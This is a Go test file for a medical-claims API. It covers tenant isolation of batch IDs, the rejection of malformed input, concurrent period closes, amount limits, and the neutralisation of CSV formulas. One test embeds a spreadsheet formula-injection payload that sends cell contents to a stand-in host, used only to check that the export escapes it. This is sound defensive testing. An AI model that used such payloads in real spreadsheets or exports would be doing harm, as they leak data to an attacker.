package api

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"sync"
	"testing"

	"medclaims/pipeline"
)

// TestBatchIDsBelongToTheirHospital: hospital A posting under B's batch id makes its own
// batch of that id: B still reads its own (A's claim is not in it), A cannot tell whether
// B's ids exist, an item naming another batch id is refused, and a query string that does
// not parse is 400 instead of a silently dropped id.
func TestBatchIDsBelongToTheirHospital(t *testing.T) {
	e := newEnv(t, nil)
	a, b := "hospital:H3001", "hospital:H2001"
	p := pipeline.NewProducer(e.svc.Brokers, e.svc.Topics.Submitted)
	defer p.Close()
	if _, err := pipeline.Submit(context.Background(), p, demoClaims(t, "H2001")[:1], "H2001-KAFKA-1", nil); err != nil {
		t.Fatal(err)
	}
	before := e.waitBatch("H2001-KAFKA-1", b)
	own := demoClaims(t, "H3001")[:1]
	if r := e.do("POST", "/v1/batches?batch_id=H2001-KAFKA-1", a, "application/json", []byte("["+string(own[0])+"]")); r.status != 202 {
		t.Fatalf("A posts under B's id: %d %s", r.status, r.body)
	}
	e.waitBatch("H2001-KAFKA-1", a)
	after := e.waitBatch("H2001-KAFKA-1", b)
	if len(after.Claims) != len(before.Claims) || strings.Contains(string(e.get("/v1/batches/H2001-KAFKA-1", b).body), `"H3001"`) {
		t.Errorf("B's batch after A's post: %d claims (was %d): %s", len(after.Claims), len(before.Claims), e.get("/v1/batches/H2001-KAFKA-1", b).body)
	}
	if r := e.get("/v1/batches/H2001-KAFKA-1", "agency"); r.status != 400 || !strings.Contains(string(r.body), "provider_id") {
		t.Errorf("the agency, two owners, no provider named: %d %s", r.status, r.body)
	}
	if r := e.get("/v1/batches/H2001-KAFKA-1?provider_id=H2001", "agency"); r.status != 200 || strings.Contains(string(r.body), `"H3001"`) {
		t.Errorf("the agency reads B's batch: %d %s", r.status, r.body)
	}
	if r := e.get("/v1/batches/H2001-KAFKA-1?provider_id=H2001", a); r.status != 403 {
		t.Errorf("A names B: %d", r.status)
	}
	// B's posted id: A's post of the same id is A's own (202), so 409 tells A nothing of B.
	claimB := demoClaims(t, "H2001")[1]
	if r := e.do("POST", "/v1/batches?batch_id=SECRET-7", b, "application/json", []byte("["+string(claimB)+"]")); r.status != 202 {
		t.Fatalf("B posts: %d %s", r.status, r.body)
	}
	for i, want := range []int{202, 409} {
		if r := e.do("POST", "/v1/batches?batch_id=SECRET-7", a, "application/json", []byte("["+string(own[0])+"]")); r.status != want {
			t.Errorf("A's post %d of B's id: %d %s, want %d", i+1, r.status, r.body, want)
		}
	}
	// An item naming another batch id; a query string with ';'.
	env := `[{"kind":"claim","batch_id":"H2001-KAFKA-1","claim":` + string(own[0]) + `}]`
	if r := e.do("POST", "/v1/batches?batch_id=MINE-1", a, "application/json", []byte(env)); r.status != 400 || !strings.Contains(string(r.body), "batch_id") {
		t.Errorf("an item naming another batch id: %d %s", r.status, r.body)
	}
	if r := e.do("POST", "/v1/batches?batch_id=H3001-SEMI;1", a, "application/json", []byte("["+string(own[0])+"]")); r.status != 400 {
		t.Errorf("?batch_id=H3001-SEMI;1: %d %s", r.status, r.body)
	}
	if r := e.get("/v1/batches/H3001-SEMI", a); r.status != 404 {
		t.Errorf("a batch was made from the bad query: %d", r.status)
	}
}

// TestHostileTextIs400: NUL and invalid UTF-8 in a path, a query or a body, and a crafted
// cursor, are 400 naming the field; a racing close is 200 or 409; a period no policy is in
// force for is 409.
func TestHostileTextIs400(t *testing.T) {
	e := newEnv(t, nil)
	demoThroughKafka(t, e)
	cursor := base64.RawURLEncoding.EncodeToString([]byte("2026-01-01T00:00:00Z|F\x00"))
	for _, c := range []struct {
		method, path, role, body, why string
	}{
		{"GET", "/v1/claims/H3001/%00", "agency", "", "NUL"},
		{"GET", "/v1/claims/H3001/%ff", "agency", "", "UTF-8"},
		{"GET", "/v1/flags?provider_id=%ff", "agency", "", "provider_id"},
		{"GET", "/v1/flags?cursor=" + cursor, "agency", "", "cursor"},
		{"GET", "/console/cases/%ff", "", "", "UTF-8"},
		{"POST", "/v1/cases", "investigator", `{"provider_id":"H3001","flag_ids":["\u0000"]}`, "flag_ids[0]"},
		{"POST", "/v1/cases", "investigator", `{"provider_id":"H3001","flag_ids":["F1"],"note":"a\u0000b"}`, "note"},
		{"POST", "/v1/cases", "investigator", "{\"provider_id\":\"H3001\xff\",\"flag_ids\":[\"F1\"]}", "UTF-8"},
		{"POST", "/v1/cases/K1/response", "hospital:H3001", `{"statement":"\u0000"}`, "statement"},
		{"POST", "/v1/cases/K1/decision", "investigator", `{"decision":"confirm","findings":[{"type":"over_treatment","claim_ids":["C1"],` +
			`"practitioner_ids":["D\u0000"],"fine":"1"}]}`, "findings[0].practitioner_ids[0]"},
	} {
		ct := ""
		if c.body != "" {
			ct = "application/json"
		}
		r := e.do(c.method, c.path, c.role, ct, []byte(c.body))
		if r.status != 400 || !strings.Contains(string(r.body), c.why) {
			t.Errorf("%s %s %q: %d %s, want 400 naming %s", c.method, c.path, c.body, r.status, r.body, c.why)
		}
	}
	if r := e.do("POST", "/v1/periods/0000-01/close", "agency", "", nil); r.status != 409 || !strings.Contains(string(r.body), "no policy version") {
		t.Errorf("a period with no policy: %d %s", r.status, r.body)
	}
	var wg sync.WaitGroup
	codes := make([]int, 4)
	for i := range codes {
		wg.Add(1)
		go func() {
			defer wg.Done()
			codes[i] = e.do("POST", "/v1/periods/2026-03/close", "agency", "", nil).status
		}()
	}
	wg.Wait()
	for _, c := range codes {
		if c != http.StatusOK && c != http.StatusConflict {
			t.Errorf("4 racing closes: %v", codes)
			break
		}
	}
}

// TestFormulaClaimIDIsInertInTheStatementCSV: a hospital-chosen claim id that a spreadsheet
// would run comes out of the statement CSV as text, and the CSV still parses.
func TestFormulaClaimIDIsInertInTheStatementCSV(t *testing.T) {
	e := newEnv(t, nil)
	const id = `=HYPERLINK("http://evil.invalid/?"&A1,"open")`
	claimJSON, _ := json.Marshal(id)
	body := `[{"claim_id":` + string(claimJSON) + `,"provider_id":"H3001","member_id":"M000002","care_type":"outpatient","service_date":"2026-03-25",` +
		`"lines":[{"line_no":1,"item_code":"LAB02","category":"lab","service_date":"2026-03-25","quantity":"1","unit_price":"100.00","amount":"100.00"}],"total":"100.00"}]`
	if r := e.do("POST", "/v1/batches?batch_id=B-FORMULA", "hospital:H3001", "application/json", []byte(body)); r.status != 202 {
		t.Fatalf("post: %d %s", r.status, r.body)
	}
	e.waitBatch("B-FORMULA", "hospital:H3001")
	e.closePeriod("2026-03")
	raw := e.getCSV("/v1/statements?period=2026-03", "agency")
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, "HYPERLINK") {
				found = cell == "'"+id
				if !found {
					t.Errorf("the formula id's cell: %q", cell)
				}
			}
		}
	}
	if !found {
		t.Errorf("the formula id is not in the statement CSV:\n%s", raw)
	}
}

// TestMoneyHasBounds: a line of "1e999" is rejected out_of_range naming the field, with no
// amount of a thousand digits anywhere in its result.
func TestMoneyHasBounds(t *testing.T) {
	e := newEnv(t, nil)
	body := `[{"claim_id":"H3001-HUGE","provider_id":"H3001","member_id":"M000002","care_type":"outpatient","service_date":"2026-03-25",` +
		`"lines":[{"line_no":1,"item_code":"LAB02","category":"lab","service_date":"2026-03-25","quantity":"1","unit_price":"1e999","amount":"1e999"}],"total":"1e999"}]`
	if r := e.do("POST", "/v1/batches?batch_id=B-HUGE", "hospital:H3001", "application/json", []byte(body)); r.status != 202 {
		t.Fatalf("post: %d %s", r.status, r.body)
	}
	e.waitBatch("B-HUGE", "hospital:H3001")
	r := e.get("/v1/claims/H3001/H3001-HUGE", "hospital:H3001")
	var cv claimView
	r.decode(t, &cv)
	if cv.Status != "rejected" || !cv.HasReason("out_of_range") || !strings.Contains(string(r.body), "line 1 unit_price is above 10000000") ||
		strings.Contains(string(r.body), "0000000000000000000000") {
		t.Errorf("a claim of 1e999: %.800s", r.body)
	}
}
